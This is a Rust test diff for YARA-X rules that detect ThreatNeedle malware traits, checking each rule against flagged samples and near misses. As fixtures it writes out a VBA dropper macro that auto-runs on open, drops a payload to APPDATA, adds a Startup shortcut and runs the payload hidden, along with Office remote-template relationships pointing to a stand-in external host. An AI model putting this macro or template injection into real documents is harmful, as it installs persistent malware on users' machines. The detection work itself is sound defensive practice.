+    assert_fires(&run, "a/dynamic.exe", STRONG);
+    assert_eq!(rule_names_on(&run, "a/both.exe"), [STRONG]);
+    assert_silent(&run, "a/wide_api.exe", WEAK);
+    for near in [
+        "b/genuine_dll.exe",
+        "b/no_create.exe",
+        "b/create_only.exe",
+        "b/script.txt",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn netsvcs_service_name_needs_the_group_the_whole_name_and_create_service() {
+    const RULE: &str = "ThreatNeedle_Netsvcs_Service_Name";
+    let rdata = |parts: &[&str]| strings(&parts.iter().map(|p| wide(p)).collect::<Vec<_>>());
+    let (_host, run) = scan_samples(&[
+        (
+            "a/nwcworkstation.exe",
+            pe(
+                &[],
+                &rdata(&["netsvcs", "NWCWorkstation"]),
+                service_imports(true),
+            ),
+        ),
+        (
+            "a/srservice.exe",
+            pe(
+                &[],
+                &rdata(&["netsvcs", "srservice"]),
+                service_imports(false),
+            ),
+        ),
+        // near misses
+        (
+            "b/no_group.exe",
+            pe(&[], &rdata(&["NWCWorkstation"]), service_imports(true)),
+        ),
+        (
+            "b/longer_name.exe",
+            pe(
+                &[],
+                &rdata(&["netsvcs", "NWCWorkstationEx"]),
+                service_imports(true),
+            ),
+        ),
+        (
+            "b/no_create.exe",
+            pe(
+                &[],
+                &rdata(&["netsvcs", "NWCWorkstation"]),
+                vec![("ADVAPI32.dll", vec!["OpenSCManagerW", "StartServiceW"])],
+            ),
+        ),
+        (
+            "b/svchost.reg",
+            b"[HKLM\\...\\Svchost]\r\n\"netsvcs\"=hex(7):NWCWorkstation CreateServiceW\r\n"
+                .to_vec(),
+        ),
+    ]);
+    assert_fires(&run, "a/nwcworkstation.exe", RULE);
+    assert_fires(&run, "a/srservice.exe", RULE);
+    for near in [
+        "b/no_group.exe",
+        "b/longer_name.exe",
+        "b/no_create.exe",
+        "b/svchost.reg",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn registry_config_keys_need_the_key_and_its_value_name() {
+    const RULE: &str = "ThreatNeedle_Registry_Config_Keys";
+    let regapi = || vec![("ADVAPI32.dll", vec!["RegCreateKeyExW", "RegSetValueExW"])];
+    let (_host, run) = scan_samples(&[
+        (
+            "a/kernelconfig.exe",
+            pe(
+                &[],
+                &strings(&[
+                    ascii(r"SOFTWARE\Microsoft\Windows\CurrentVersion\KernelConfig"),
+                    ascii("SubVersion"),
+                ]),
+                regapi(),
+            ),
+        ),
+        // near misses: key without its value, another key, the key in a .reg export
+        (
+            "b/no_value.exe",
+            pe(
+                &[],
+                &wide(r"SOFTWARE\Microsoft\Windows\CurrentVersion\KernelConfig"),
+                regapi(),
+            ),
+        ),
+        (
+            "b/other_key.exe",
+            pe(
+                &[],
+                &strings(&[
+                    wide(r"SOFTWARE\Microsoft\Windows\CurrentVersion\GameConfigStore"),
+                    wide("Description"),
+                ]),
+                regapi(),
+            ),
+        ),
+        (
+            "b/export.reg",
+            b"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\GameConfig]\r\n\"Description\"=hex:00\r\n"
+                .to_vec(),
+        ),
+    ]);
+    assert_fires(&run, "a/kernelconfig.exe", RULE);
+    assert_no_rule(&run, "b/no_value.exe");
+    assert_no_rule(&run, "b/other_key.exe");
+    assert_no_rule(&run, "b/export.reg");
+}
+
+#[test]
+fn startup_shortcut_name_is_the_misspelt_one_in_a_pe() {
+    const RULE: &str = "ThreatNeedle_Startup_Shortcut_Name";
+    let (_host, run) = scan_samples(&[
+        ("a/ascii.exe", pe_with(&ascii(r"\Startup\OneDrives.lnk"))),
+        ("b/genuine.exe", pe_with(&wide(r"\Startup\OneDrive.lnk"))),
+        ("b/longer.exe", pe_with(&wide(r"\Startup\MyOneDrives.lnk"))),
+        (
+            "b/notes.txt",
+            b"persistence: Startup\\OneDrives.lnk".to_vec(),
+        ),
+    ]);
+    assert_fires(&run, "a/ascii.exe", RULE);
+    assert_no_rule(&run, "b/genuine.exe");
+    assert_no_rule(&run, "b/longer.exe");
+    assert_no_rule(&run, "b/notes.txt");
+}
+
+// ---------------------------------------------------------------------------
+// Documents: remote template
+
+fn remote_template_rels() -> String {
+    settings_rels_xml("https://templates.example.test/Boeing_AERO_GS.dotm", true)
+}
+
+#[test]
+fn stored_remote_template_relationship_is_detected() {
+    const STORED: &str = "ThreatNeedle_Office_Remote_Template_Stored";
+    const WEAK: &str = "ThreatNeedle_Office_Template_Rels_Compressed";
+    // Attribute order and quoting vary between producers.
+    let reordered = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship TargetMode='External' Target='http://203.0.113.7/t.dotm' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Id='rId9'/></Relationships>"#;
+    let local = settings_rels_xml(
+        "file:///C:/Users/alice/AppData/Roaming/Microsoft/Templates/Report.dotm",
+        true,
+    );
+    let internal = settings_rels_xml("https://templates.example.test/t.dotm", false);
+    // An external hyperlink next to an internal template: the attributes are in different
+    // relationships, which must not combine.
+    let split = r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="Templates/Normal.dotm"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.test/" TargetMode="External"/></Relationships>"#;
+    let (_host, run) = scan_samples(&[
+        (
+            "a/stored.docx",
+            docx_with_settings_rels(&remote_template_rels(), ZipMethod::Stored),
+        ),
+        (
+            "a/reordered.docx",
+            docx_with_settings_rels(reordered, ZipMethod::Stored),
+        ),
+        (
+            "a/flat.xml",
+            flat_opc_with_settings_rels(&remote_template_rels()),
+        ),
+        // near misses
+        (
+            "b/local.docx",
+            docx_with_settings_rels(&local, ZipMethod::Stored),
+        ),
+        (
+            "b/internal.docx",
+            docx_with_settings_rels(&internal, ZipMethod::Stored),
+        ),
+        (
+            "b/split.docx",
+            docx_with_settings_rels(split, ZipMethod::Stored),
+        ),
+        ("b/flat_local.xml", flat_opc_with_settings_rels(&local)),
+        // The relationship as loose text, not in a document.
+        ("b/settings.xml.rels", remote_template_rels().into_bytes()),
+        // Another part of the package holds it (document.xml.rels hyperlinks are common).
+        (
+            "b/other_part.docx",
+            build_zip(&[
+                ZipEntry::new("[Content_Types].xml", "<Types/>", ZipMethod::Deflated),
+                ZipEntry::new(
+                    "word/_rels/document.xml.rels",
+                    remote_template_rels(),
+                    ZipMethod::Stored,
+                ),
+            ]),
+        ),
+    ]);
+    assert_eq!(rule_names_on(&run, "a/stored.docx"), [STORED]);
+    assert_eq!(rule_names_on(&run, "a/reordered.docx"), [STORED]);
+    assert_eq!(rule_names_on(&run, "a/flat.xml"), [STORED]);
+    assert_silent(&run, "a/stored.docx", WEAK);
+    for near in [
+        "b/local.docx",
+        "b/internal.docx",
+        "b/split.docx",
+        "b/flat_local.xml",
+        "b/settings.xml.rels",
+        "b/other_part.docx",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn compressed_template_relationships_are_only_a_notice() {
+    const WEAK: &str = "ThreatNeedle_Office_Template_Rels_Compressed";
+    let plain_docx = build_zip(&[
+        ZipEntry::new("[Content_Types].xml", "<Types/>", ZipMethod::Deflated),
+        ZipEntry::new("word/document.xml", "<w:document/>", ZipMethod::Deflated),
+        ZipEntry::new(
+            "word/_rels/document.xml.rels",
+            "<Relationships/>",
+            ZipMethod::Deflated,
+        ),
+    ]);
+    let (_host, run) = scan_samples(&[
+        (
+            "a/remote.docx",
+            docx_with_settings_rels(&remote_template_rels(), ZipMethod::Deflated),
+        ),
+        // near misses: no settings relationships, a part of that name outside word/
+        ("b/plain.docx", plain_docx),
+        (
+            "b/elsewhere.zip",
+            build_zip(&[ZipEntry::new(
+                "backup/word/_rels/settings.xml.rels",
+                remote_template_rels(),
+                ZipMethod::Deflated,
+            )]),
+        ),
+    ]);
+    assert_eq!(rules_on(&run, "a/remote.docx"), [(WEAK.to_string(), 40)]);
+    let finding = finding_for(&run, "a/remote.docx").expect("flagged");
+    assert_eq!(finding["level"], "notice");
+    assert_no_rule(&run, "b/plain.docx");
+    assert_no_rule(&run, "b/elsewhere.zip");
+}
+
+// ---------------------------------------------------------------------------
+// Documents: macro dropping a payload and a shortcut
+
+/// What the dropper macro does after writing its payload.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Dropper {
+    /// Makes a shortcut to the payload and runs it (the published behaviour).
+    ShortcutAndRun,
+    /// Runs the payload without making a shortcut (near miss).
+    RunOnly,
+    /// Makes the shortcut but runs nothing (near miss).
+    ShortcutOnly,
+}
+
+/// A macro in the style of the related lure: writes a payload with ADODB.Stream, then (per
+/// `kind`) makes a shortcut and/or runs it.
+fn dropper_macro(kind: Dropper) -> Vec<VbaModule> {
+    let mut body = String::from(
+        r#"Private Sub DropPayload(path As String, data As String)
+    Dim st As Object
+    Set st = CreateObject("ADODB.Stream")
+    st.Type = 2
+    st.Open
+    st.WriteText data
+    st.SaveToFile path, 2
+    st.Close
+End Sub
+
+Sub AutoOpen()
+    Dim p As String
+    p = Environ("APPDATA") & "\Microsoft\update.tmp"
+    DropPayload p, ActiveDocument.Variables("blob").Value
+    Dim sh As Object
+    Set sh = CreateObject("WScript.Shell")
+"#,
+    );
+    if kind != Dropper::RunOnly {
+        body += r#"    Dim lnk As Object
+    Set lnk = sh.CreateShortcut(Environ("APPDATA") & "\Microsoft\Windows\Start Menu\Programs\Startup\OneDrives.lnk")
+    lnk.TargetPath = p
+    lnk.Arguments = "7486513879852"
+    lnk.Save
+"#;
+    }
+    if kind != Dropper::ShortcutOnly {
+        body += "    sh.Run Chr(34) & p & Chr(34) & \" 7486513879852\", 0\n";
+    }
+    body += "End Sub\n";
+    vec![
+        VbaModule::this_document("Private Sub Document_Open()\n    AutoOpen\nEnd Sub\n"),
+        VbaModule::standard("Module1", &body),
+    ]
+}
+
+#[test]
+fn macro_fallback_reads_the_uncompressed_identifiers_of_doc_files() {
+    const RULE: &str = "ThreatNeedle_Macro_Drops_Payload_And_Shortcut";
+    let cached = VbaCache::Identifiers;
+    let identifiers_text = "CreateObject ADODB.Stream SaveToFile WScript.Shell CreateShortcut \
+                            OneDrives.lnk Run _VBA_PROJECT";
+    let (_host, run) = scan_samples(&[
+        (
+            "a/lure.doc",
+            doc_with_macros(&dropper_macro(Dropper::ShortcutAndRun), cached, ""),
+        ),
+        // near misses
+        (
+            "b/run_only.doc",
+            doc_with_macros(&dropper_macro(Dropper::RunOnly), cached, ""),
+        ),
+        (
+            "b/shortcut_only.doc",
+            doc_with_macros(&dropper_macro(Dropper::ShortcutOnly), cached, ""),
+        ),
+        // The words in the text of a document without macros, and in a plain file.
+        (
+            "b/no_project.doc",
+            samples::build_cfb(&[samples::CfbNode::Stream(
+                "WordDocument".into(),
+                identifiers_text.as_bytes().to_vec(),
+            )]),
+        ),
+        ("b/notes.txt", identifiers_text.as_bytes().to_vec()),
+    ]);
+    assert_fires(&run, "a/lure.doc", RULE);
+    for near in [
+        "b/run_only.doc",
+        "b/shortcut_only.doc",
+        "b/no_project.doc",
+        "b/notes.txt",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+/// YARA-X 1.22.1's vba module cannot be enabled (its olecf dependency does not compile), so the
+/// macro rule in the pack keys on raw strings. This fails once a YARA-X upgrade makes the module
+/// available: then a rule on the decompressed macro source (`vba.modules[i].code`) should replace
+/// the fallback in signatures/rules/threatneedle_macros.yar.
+#[test]
+fn vba_module_is_unavailable_so_the_macro_rule_uses_raw_strings() {
+    let rules = Host::new();
+    let rule = rules.write(
+        "macro_vba.yar",
+        b"import \"vba\"\nrule Uses_Vba { condition: vba.has_macros }\n",
+    );
+    let run = needle(["rules", "check", rule.to_str().expect("UTF-8")]);
+    assert_eq!(run.code, 1, "{}", run.stdout);
+    assert!(run.stderr.contains("unknown module"), "{}", run.stderr);
+}
